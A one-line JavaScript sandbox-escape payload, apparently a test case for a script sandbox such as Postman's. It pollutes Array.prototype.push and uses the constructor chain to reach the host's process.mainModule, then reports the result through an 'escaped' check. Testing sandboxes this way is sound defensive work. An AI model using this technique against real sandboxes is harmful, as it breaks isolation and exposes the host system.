Array.prototype.push = function () { escaped('push', this.constructor.constructor('return globalThis.process?.mainModule')()); return 0; }; console.log('after'); pm.environment.set('a', 1);
